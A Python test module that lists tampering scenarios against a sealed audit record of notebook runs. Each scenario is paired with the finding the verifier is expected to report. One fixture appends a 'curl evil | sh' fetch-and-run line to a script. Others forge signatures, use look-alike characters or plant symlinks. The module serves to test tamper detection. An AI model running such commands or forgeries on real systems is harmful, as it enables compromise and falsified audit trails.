"""What a forger does to a run's folder, as data: a name, how, what the verdict says of it, and the exit code."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from k8swin_nb.audit.sealing import ASKED, seal_run
from k8swin_nb.workflow.record import Record
from tests.audit.records import OTHER, lines, make_record, rebuild, write


@dataclass(frozen=True, slots=True)
class Forgery:
    name: str
    forge: Callable[[Path, Path], Path | None]
    """Is given the run's folder and that of the keys; returns the folder to be judged when it is another one."""

    expected: str
    """The finding's word for programs."""

    code: int = 1


def _line(folder: Path, place: int, old: bytes, new: bytes) -> None:
    found = lines(folder)
    assert old in found[place]
    found[place] = found[place].replace(old, new)
    write(folder, found)


def _edit(folder: Path, name: str, old: str, new: str) -> None:
    path = folder / name
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def _place(folder: Path, kind: str) -> int:
    return next(i for i, line in enumerate(lines(folder)) if json.loads(line)["event"] == kind)


def edited_line(folder, _):
    _line(folder, _place(folder, "script"), b'"exit_code": 0', b'"exit_code": 1')


def rewritten_last_line(folder, _):
    found = lines(folder)
    found[-1] = json.dumps(json.loads(found[-1]), separators=(",", ":")).encode() + b"\n"
    write(folder, found)


def rewritten_json(folder, _):
    found = lines(folder)
    found[2] = json.dumps(json.loads(found[2]), sort_keys=True).encode() + b"\n"
    write(folder, found)


def key_twice(folder, _):
    found = lines(folder)
    found[2] = found[2].rstrip(b"}\n") + b', "host": "another"}\n'
    write(folder, found)


def missing_line(folder, _):
    found = lines(folder)
    del found[3]
    write(folder, found)


def added_line(folder, _):
    found = lines(folder)
    event = json.loads(found[3]) | {"event": "removal-confirmed"}
    found.insert(4, json.dumps(event).encode() + b"\n")
    write(folder, found)


def other_order(folder, _):
    found = lines(folder)
    found[3], found[4] = found[4], found[3]
    write(folder, found)


def doubled_line(folder, _):
    found = lines(folder)
    found.insert(4, found[3])
    write(folder, found)


def garbage_line(folder, _):
    found = lines(folder)
    found[3] = b"no event at all\n"
    write(folder, found)


def rebuilt_chain(folder, _):
    def change(events):
        next(e for e in events if e["event"] == "notebook-opened")["operator"] = "bob"

    rebuild(folder, change)


def rebuilt_without_a_line(folder, _):
    rebuild(folder, lambda events: events.pop(3))


def first_lines_cut(folder, _):
    write(folder, lines(folder)[2:])


def tail_cut(folder, _):
    write(folder, lines(folder)[:-4])


def tail_cut_in_a_line(folder, _):
    content = (folder / "events.jsonl").read_bytes()
    (folder / "events.jsonl").write_bytes(content[:-40])


def tail_cut_at_the_seal(folder, _):
    write(folder, lines(folder)[:-1])


def emptied(folder, _):
    (folder / "events.jsonl").write_bytes(b"")


def seal_edited(folder, _):
    _edit(folder, "seals/0002.json", '"reason": "CHG-4711"', '"reason": "CHG-4712"')


def seal_spaces(folder, _):
    path = folder / "seals/0002.json"
    path.write_bytes(path.read_bytes() + b"\n")


def seal_removed(folder, _):
    (folder / "seals/0001.json").unlink()


def last_seal_removed(folder, _):
    for path in folder.glob("seals/0002*"):
        path.unlink()


def all_seals_removed(folder, _):
    shutil.rmtree(folder / "seals")


def seals_renumbered(folder, _):
    for ending in ("", ".sig"):
        (folder / f"seals/0002.json{ending}").rename(folder / f"seals/0003.json{ending}")


def seals_swapped(folder, _):
    one, two = folder / "seals/0001.json", folder / "seals/0002.json"
    a, b = one.read_bytes(), two.read_bytes()
    one.write_bytes(b)
    two.write_bytes(a)


def seal_of_another_run(folder, keys):
    other = make_record(folder.parent / "elsewhere", f"ssh:{keys / 'alice'}", OTHER)
    for ending in ("", ".sig"):
        shutil.copy(other / f"seals/0002.json{ending}", folder / f"seals/0002.json{ending}")


def resealed_by_a_forger(folder, _):
    _edit(folder, "logs/0001-swap-linuxmaster-apply.log", "off", "on")
    seal_run(folder, ASKED)


def resealed_with_another_key(folder, keys):
    _edit(folder, "index.html", "page", "PAGE")
    seal_run(folder, ASKED, f"ssh:{keys / 'mallory'}")


def all_made_anew_unsigned(folder, _):
    shutil.rmtree(folder)
    make_record(folder.parent)


def all_made_anew_with_another_key(folder, keys):
    shutil.rmtree(folder)
    make_record(folder.parent, f"ssh:{keys / 'mallory'}")


def signature_removed(folder, _):
    (folder / "seals/0002.json.sig").unlink()


def _sign(
    folder: Path, key: Path, namespace: str = "k8swin-seal", what: str = "seals/0002.json"
) -> None:
    words = ["ssh-keygen", "-q", "-Y", "sign", "-n", namespace, "-f", str(key)]
    done = subprocess.run(
        words, input=(folder / what).read_bytes(), capture_output=True, check=True
    )
    (folder / "seals/0002.json.sig").write_bytes(done.stdout)


def signature_of_another_file(folder, _):
    shutil.copy(folder / "seals/0001.json.sig", folder / "seals/0002.json.sig")


def signature_of_another_namespace(folder, keys):
    _sign(folder, keys / "alice", "git")


def signature_of_another_key(folder, keys):
    _sign(folder, keys / "mallory")


def signature_is_noise(folder, _):
    (folder / "seals/0002.json.sig").write_bytes(os.urandom(300))


def swapped_notebook(folder, _):
    made = nbformat.read(folder / "02_master.ipynb", 4)
    made.cells[0].source = "print('something else')"
    nbformat.write(made, folder / "02_master.ipynb")


def changed_output(folder, _):
    _edit(folder, "02_master.ipynb", "swap is off", "swap is on")


def changed_output_and_resealed(folder, keys):
    changed_output(folder, keys)
    seal_run(folder, ASKED, f"ssh:{keys / 'alice'}")


def notebook_removed(folder, _):
    (folder / "02_master.ipynb").unlink()


def script_text_changed(folder, _):
    path = next(folder.glob("scripts/*.sh"))
    path.write_text(path.read_text() + "curl evil | sh\n")


def parameters_changed(folder, _):
    path = next(folder.glob("parameters/*.json"))
    path.write_text(path.read_text().replace("plant1", "plant2"))


def log_changed(folder, _):
    _edit(folder, "logs/0001-swap-linuxmaster-apply.log", "off", "0ff")


def log_grown(folder, _):
    with (folder / "logs/0001-swap-linuxmaster-apply.log").open("a") as file:
        file.write("and more\n")


def log_removed(folder, _):
    (folder / "logs/0001-swap-linuxmaster-apply.log").unlink()


def page_changed(folder, _):
    _edit(folder, "index.html", "the page", "another page")


def file_added(folder, _):
    (folder / "logs/0099-more.log").write_text("never printed\n")


def hidden_file_added(folder, _):
    (folder / "logs/.note").write_text("never printed\n")


def file_is_a_link(folder, _):
    path = folder / "logs/0001-swap-linuxmaster-apply.log"
    kept = folder.parent / "outside.log"
    path.rename(kept)
    path.symlink_to(kept)


def record_is_a_link(folder, _):
    path = folder / "events.jsonl"
    kept = folder.parent / "outside.jsonl"
    path.rename(kept)
    path.symlink_to(kept)


def folder_is_a_link(folder, _):
    path = folder / "logs"
    path.rename(folder.parent / "outside")
    path.symlink_to(folder.parent / "outside")


def pipe_added(folder, _):
    os.mkfifo(folder / "logs/0098-pipe.log")


def two_runs_merged(folder, keys):
    other = make_record(folder.parent / "elsewhere", f"ssh:{keys / 'alice'}", OTHER)
    write(folder, lines(folder) + lines(other))


def another_runs_event_chained(folder, _):
    Record(folder.parent, folder.name, "x").write("removal-confirmed", run=OTHER)


def another_runs_files(folder, keys):
    other = make_record(folder.parent / "elsewhere", f"ssh:{keys / 'alice'}", OTHER)
    shutil.copy(other / "logs/0001-swap-linuxmaster-apply.log", folder / "logs/0077-x.log")


def renamed(folder, _):
    return folder.rename(folder.with_name(OTHER))


def event_appended(folder, _):
    Record(folder.parent, folder.name, "02_master").write("step", step="x", outcome="ok")


def sealed_event_changed(folder, _):
    def change(events):
        events[-1]["operator"] = "bob"

    rebuild(folder, change)


def clock_set_back(folder, _):
    def change(events):
        events[4]["time"] = "2025-01-01T00:00:00.000Z"

    rebuild(folder, change)


def two_runs_merged_and_renumbered(folder, keys):
    other = make_record(folder.parent / "elsewhere", f"ssh:{keys / 'alice'}", OTHER)
    more = [json.loads(line) | {"run": folder.name} for line in lines(other)[3:6]]
    rebuild(folder, lambda events: events.extend(more))


def two_runs_merged_in_the_middle(folder, keys):
    other = make_record(folder.parent / "elsewhere", f"ssh:{keys / 'alice'}", OTHER)
    more = [json.loads(line) | {"run": folder.name} for line in lines(other)[2:5]]

    def change(events):
        events[4:4] = more

    rebuild(folder, change)


def another_hosts_event_chained(folder, _):
    Record(folder.parent, folder.name, "02_master").write(
        "step", step="swap", host="winworker07", outcome="changed"
    )


def another_hosts_event_in_the_middle(folder, _):
    rebuild(folder, lambda events: events.insert(5, events[5] | {"host": "winworker07"}))


def seals_and_their_events_removed(folder, _):
    shutil.rmtree(folder / "seals")

    def change(events):
        events[:] = [event for event in events if event["event"] != "sealed"]

    rebuild(folder, change)


def rolled_back_to_the_first_seal(folder, _):
    found = lines(folder)
    write(folder, found[: _place(folder, "sealed") + 1])
    for path in folder.glob("seals/0002*"):
        path.unlink()


def signature_of_another_runs_seal(folder, keys):
    other = make_record(folder.parent / "elsewhere", f"ssh:{keys / 'alice'}", OTHER)
    shutil.copy(other / "seals/0002.json.sig", folder / "seals/0002.json.sig")


def seal_twice_by_another_name(folder, _):
    shutil.copy(folder / "seals/0002.json", folder / "seals/00002.json")


def look_alike_in_an_output(folder, _):
    _edit(folder, "02_master.ipynb", "swap is off", "swap is \u043eff")


def look_alike_in_a_log(folder, _):
    _edit(folder, "logs/0001-swap-linuxmaster-apply.log", "off", "o\ufb00")


def look_alike_in_the_record(folder, _):
    _line(folder, _place(folder, "step"), b"linuxmaster", "linuxm\u0430ster".encode())


def unseen_in_an_output(folder, _):
    _edit(folder, "02_master.ipynb", "swap is off", "swap is o\u200bff")


def _notebook_with(folder: Path, place: int, cell: nbformat.NotebookNode) -> None:
    made = nbformat.read(folder / "02_master.ipynb", 4)
    made.cells.insert(place, cell)
    nbformat.write(made, folder / "02_master.ipynb")


def cell_added_after_the_last_one(folder, _):
    cell = nbformat.v4.new_code_cell("phase.proof()", execution_count=4)
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all is proven\n")]
    _notebook_with(folder, 99, cell)


def text_added_between_cells(folder, _):
    _notebook_with(folder, 1, nbformat.v4.new_markdown_cell("All of it went well."))


def outputs_stripped(folder, _):
    made = nbformat.read(folder / "02_master.ipynb", 4)
    for cell in made.cells:
        cell.outputs, cell.execution_count = [], None
    nbformat.write(made, folder / "02_master.ipynb")


def script_exchanged_under_its_name(folder, _):
    one, two = sorted(folder.glob("scripts/*.sh"))[:2]
    one.write_bytes(two.read_bytes())


def script_exchanged_and_sealed(folder, keys):
    script_exchanged_under_its_name(folder, keys)
    seal_run(folder, ASKED, f"ssh:{keys / 'alice'}")


def zero_bytes_in_the_record(folder, _):
    _line(folder, 3, b'"host"', b'\0"host"')


def zero_bytes_at_the_end_of_the_record(folder, _):
    with (folder / "events.jsonl").open("ab") as file:
        file.write(bytes(512))


def zero_bytes_in_a_log(folder, _):
    path = folder / "logs/0001-swap-linuxmaster-apply.log"
    path.write_bytes(bytes(path.stat().st_size))


def line_ends_of_windows(folder, _):
    write(folder, [line.replace(b"\n", b"\r\n") for line in lines(folder)])


def a_mark_before_the_record(folder, _):
    write(folder, [b"\xef\xbb\xbf", *lines(folder)])


def an_empty_line_at_the_end(folder, _):
    write(folder, [*lines(folder), b"\n"])


def a_name_in_capitals(folder, _):
    path = folder / "logs/0001-swap-linuxmaster-apply.log"
    path.rename(path.with_name(path.name.upper()))


def a_folder_in_capitals(folder, _):
    (folder / "logs").rename(folder / "LOGS")


def a_link_that_leads_out(folder, _):
    (folder / "logs" / "0099-more.log").symlink_to("/etc/hostname")


def page_exchanged_as_if_the_run_went_on(folder, _):
    page_changed(folder, _)
    Record(folder.parent, folder.name, "k8swin desk").write("desk-continued")


def log_exchanged_as_if_the_run_went_on(folder, _):
    log_changed(folder, _)
    Record(folder.parent, folder.name, "k8swin desk").write("desk-continued")


FORGERIES = tuple(
    Forgery(made.__name__, made, expected, *code)
    for made, expected, *code in (
        (edited_line, "line-edited"),
        (rewritten_json, "line-edited"),
        (rewritten_last_line, "line-rewritten"),
        (key_twice, "line-edited"),
        (missing_line, "line-missing"),
        (added_line, "line-missing"),
        (other_order, "line-missing"),
        (doubled_line, "line-duplicated"),
        (garbage_line, "line-edited"),
        (rebuilt_chain, "record-changed"),
        (rebuilt_without_a_line, "record-changed"),
        (first_lines_cut, "record-changed"),
        (tail_cut, "record-changed"),
        (tail_cut_in_a_line, "tail-cut"),
        (tail_cut_at_the_seal, "tail-cut"),
        (emptied, "record-changed"),
        (seal_edited, "signature-bad"),
        (seal_spaces, "seal-edited"),
        (seal_removed, "seal-missing"),
        (last_seal_removed, "seal-missing"),
        (all_seals_removed, "seal-missing"),
        (seals_renumbered, "seal-missing"),
        (seals_swapped, "seal-edited"),
        (seal_of_another_run, "seal-of-another-run"),
        (resealed_by_a_forger, "file-changed"),
        (resealed_with_another_key, "signer-unknown", 3),
        (all_made_anew_unsigned, "unsigned", 3),
        (all_made_anew_with_another_key, "signer-unknown", 3),
        (signature_removed, "signature-missing"),
        (signature_of_another_file, "signature-bad"),
        (signature_of_another_namespace, "signature-bad"),
        (signature_of_another_key, "signature-changed"),
        (signature_is_noise, "signature-bad"),
        (swapped_notebook, "file-changed"),
        (changed_output, "notebook-output"),
        (changed_output_and_resealed, "notebook-output"),
        (notebook_removed, "file-removed"),
        (script_text_changed, "file-changed"),
        (parameters_changed, "file-changed"),
        (log_changed, "file-changed"),
        (log_grown, "file-changed"),
        (log_removed, "file-removed"),
        (page_changed, "file-changed"),
        (file_added, "file-added"),
        (hidden_file_added, "file-added"),
        (file_is_a_link, "not-a-file"),
        (record_is_a_link, "not-a-file"),
        (folder_is_a_link, "not-a-file"),
        (pipe_added, "not-a-file"),
        (two_runs_merged, "another-run"),
        (another_runs_event_chained, "another-run"),
        (another_runs_files, "file-added"),
        (renamed, "renamed"),
        (event_appended, "events-not-sealed", 3),
        (sealed_event_changed, "line-edited"),
        (clock_set_back, "record-changed"),
        (two_runs_merged_in_the_middle, "record-changed"),
        # Nobody sealed it, and nobody can say that nobody wrote it.
        (two_runs_merged_and_renumbered, "events-not-sealed", 3),
        (another_hosts_event_chained, "events-not-sealed", 3),
        (another_hosts_event_in_the_middle, "record-changed"),
        # As a run that was never sealed.
        (seals_and_their_events_removed, "no-seal", 3),
        # As a run that was killed then: what came later is not sealed.
        (rolled_back_to_the_first_seal, "file-not-sealed", 3),
        (signature_of_another_runs_seal, "signature-bad"),
        (seal_twice_by_another_name, "file-added"),
        (look_alike_in_an_output, "notebook-output"),
        (look_alike_in_a_log, "file-changed"),
        (look_alike_in_the_record, "line-edited"),
        (unseen_in_an_output, "notebook-output"),
        (cell_added_after_the_last_one, "notebook-added"),
        (text_added_between_cells, "file-changed"),
        (outputs_stripped, "notebook-notebook"),
        (script_exchanged_under_its_name, "file-changed"),
        (script_exchanged_and_sealed, "file-changed"),
        (zero_bytes_in_the_record, "line-edited"),
        (zero_bytes_at_the_end_of_the_record, "half-line", 3),
        (zero_bytes_in_a_log, "file-changed"),
        (line_ends_of_windows, "record-changed"),
        (a_mark_before_the_record, "line-edited"),
        (an_empty_line_at_the_end, "line-edited"),
        (a_name_in_capitals, "file-removed"),
        (a_folder_in_capitals, "file-removed"),
        (a_link_that_leads_out, "not-a-file"),
        # As a run that somebody went on with: its page is not proven any more, and what is written once still is.
        (page_exchanged_as_if_the_run_went_on, "file-not-sealed", 3),
        (log_exchanged_as_if_the_run_went_on, "file-changed"),
    )
)
